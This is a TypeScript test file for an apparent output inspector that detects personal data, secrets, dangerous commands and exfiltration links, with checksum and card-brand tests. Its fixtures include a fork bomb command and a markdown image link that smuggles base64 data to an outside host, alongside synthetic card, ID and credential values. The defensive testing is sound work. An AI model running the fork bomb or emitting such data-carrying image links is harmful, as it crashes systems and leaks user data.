import { describe, expect, it } from 'vitest';
import { ruleIds, testContext, testInspector } from '../../test/support/output.ts';
import { cardBrand } from './pii.ts';
import { ibanChecksumValid, luhnValid, mod11x10Valid, verhoeffValid } from './checksums.ts';

const flagAll = { pii: 'flag', secrets: 'flag', canary: 'flag', commands: 'flag', links: { action: 'flag', allow_domains: ['company.com'] } } as const;

async function ids(text: string, output: object = flagAll): Promise<string[]> {
  return ruleIds(await testInspector(output as never).inspect(text, testContext()));
}

describe('check digits', () => {
  it.each([
    ['luhn', luhnValid('4539148803436467'), true], ['luhn off by one', luhnValid('4539148803436468'), false],
    ['iban DE', ibanChecksumValid('DE89370400440532013000'), true], ['iban typo', ibanChecksumValid('DE89370400440532013001'), false],
    ['verhoeff', verhoeffValid('234123412346'), true], ['verhoeff typo', verhoeffValid('234123412347'), false],
    ['mod 11,10', mod11x10Valid('86095742719'), true], ['mod 11,10 typo', mod11x10Valid('86095742718'), false],
  ])('%s', (_name, actual, expected) => expect(actual).toBe(expected));

  it.each([
    ['4539148803436467', 'visa'], ['5555555555554444', 'mastercard'], ['2223003122003222', 'mastercard'], ['378282246310005', 'amex'],
    ['6011111111111117', 'discover'], ['3530111333300000', 'jcb'], ['6200000000000005', 'unionpay'], ['30569309025904', 'diners'],
    ['6759649826438453', 'maestro'], ['9999999999999995', undefined],
  ])('card brand of %s is %s', (digits, brand) => expect(cardBrand(digits)).toBe(brand));
});

describe('detectors side by side with look-alikes', () => {
  it.each([
    ['an e-mail', 'write to anna.k@firma.de today', 'output.pii.email'],
    ['an international phone', 'ring +49 30 901820 now', 'output.pii.phone'],
    ['a Visa card', 'card 4539 1488 0343 6467', 'output.pii.credit-card'],
    ['an IBAN', 'IBAN GB82 WEST 1234 5698 7654 32', 'output.pii.iban'],
    ['a US SSN', 'SSN 536-22-8811', 'output.pii.us-ssn'],
    ['a UK NINO', 'NINO AB123456C', 'output.pii.uk-nino'],
    ['a Spanish DNI', 'DNI 12345678Z', 'output.pii.es-dni'],
    ['a Brazilian CPF', 'CPF 529.982.247-25', 'output.pii.br-cpf'],
    ['a Dutch BSN', 'BSN 111222333', 'output.pii.nl-bsn'],
    ['a Canadian SIN', 'SIN 193-456-787', 'output.pii.ca-sin'],
    ['a date of birth', 'geboren am 03.11.1962', 'output.pii.date-of-birth'],
    ['an IPv6 address', 'from 2001:db8::ff00:42:8329', 'output.pii.ip-address'],
    ['an AWS key', 'AKIAQWERTYUIOPASDFGH', 'output.secret.aws-access-key'],
    ['a JWT', 'eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhYmMxMjMiLCJleHAiOjE3MDB9.c2lnbmF0dXJlLWJ5dGVzLWhlcmUtYWJj', 'output.secret.jwt'],
    ['a PEM header alone', '-----BEGIN PRIVATE KEY-----\nMIIEvQ', 'output.secret.private-key'],
    ['a fork bomb', ':(){ :|:& };:', 'output.command.fork-bomb'],
  ])('finds %s', async (_name, text, expected) => {
    expect(await ids(text)).toContain(expected);
  });

  it.each([
    ['an order number that passes Luhn', 'order #4539148803436467'],
    ['a UUID', 'id 123e4567-e89b-12d3-a456-426614174000'],
    ['a version string', 'version 1.2.3.4 and v10.0.0.1'],
    ['a lock-file hash', 'sha512-ZdEX7nR1c3Kq8ooXk7x4v0yM+lq5Yc0wN9yKk3b2mG8tq6A9y2x1w0v9u8t7s6r5q4p3o2n1m0l9k8j7i6h5g4f3e2d1c0b=='],
    ['a marked example key', 'example: AKIAIOSFODNN7EXAMPLE'],
    ['a placeholder', 'api_key = "YOUR_API_KEY_HERE"'],
    ['a JWT-looking string with a bad header', 'eyJub3QganNvbiB9.eyJzdWIiOiJhYmMxMjMifQ.c2lnbmF0dXJlLWJ5dGVzLWhlcmU'],
    ['a date without birth context', 'deadline 03.11.1962'],
    ['a national phone number without a keyword', 'reference 030 901820'],
    ['an allowlisted link', 'see https://company.com/docs?page=2'],
    ['a harmless rm', 'rm -rf ./dist'],
  ])('passes %s', async (_name, text) => {
    expect(await ids(text)).toEqual([]);
  });

  it('lets test cards through only when the policy allows test values', async () => {
    expect(await ids('card 4242 4242 4242 4242')).toContain('output.pii.credit-card');
    expect(await ids('card 4242 4242 4242 4242', { ...flagAll, allow_test_values: true })).toEqual([]);
  });

  it('flags bulk lists at the policy threshold', async () => {
    const list = Array.from({ length: 5 }, (_, index) => `p${index}@mail.example.org`).join(' ');
    expect(await ids(list, { ...flagAll, bulk_threshold: 5, types: { bulk: 'flag' } })).toContain('output.pii.bulk');
    expect(await ids(list, { ...flagAll, bulk_threshold: 6, types: { bulk: 'flag' } })).not.toContain('output.pii.bulk');
    const blocked = await testInspector({ bulk_threshold: 5 }).inspect(list, testContext());
    expect(blocked).toMatchObject({ action: 'deny', ruleId: 'output.pii.bulk' });
  });

  it('applies per-type overrides in kebab or snake case and ranks the verdict by the strongest finding', async () => {
    const text = 'card 4539 1488 0343 6467 mail anna.k@firma.de key AKIAQWERTYUIOPASDFGH';
    expect(await testInspector({ types: { credit_card: 'block' } }).inspect(text, testContext())).toMatchObject({ action: 'deny', ruleId: 'output.secret.aws-access-key' });
    const redacted = await testInspector({ secrets: 'redact', types: { email: 'allow' } }).inspect(text, testContext());
    expect(redacted).toMatchObject({ action: 'redact', ruleId: 'output.secret.aws-access-key' });
    expect(redacted.action === 'redact' && redacted.text).toBe('card [CARD_1] mail anna.k@firma.de key [AWS_ACCESS_KEY_1]');
  });

  it('ranks auto-loading exfiltration above a plain external link', async () => {
    const text = '[a](https://x.example/a) ![b](https://y.example/p.png?d=aGVsbG8gd29ybGQgc2VjcmV0IHN0dWZm)';
    const verdict = await testInspector({ links: { action: 'block', allow_domains: [] } }).inspect(text, testContext());
    expect(verdict).toMatchObject({ action: 'deny', ruleId: 'output.link.exfiltration' });
  });
});
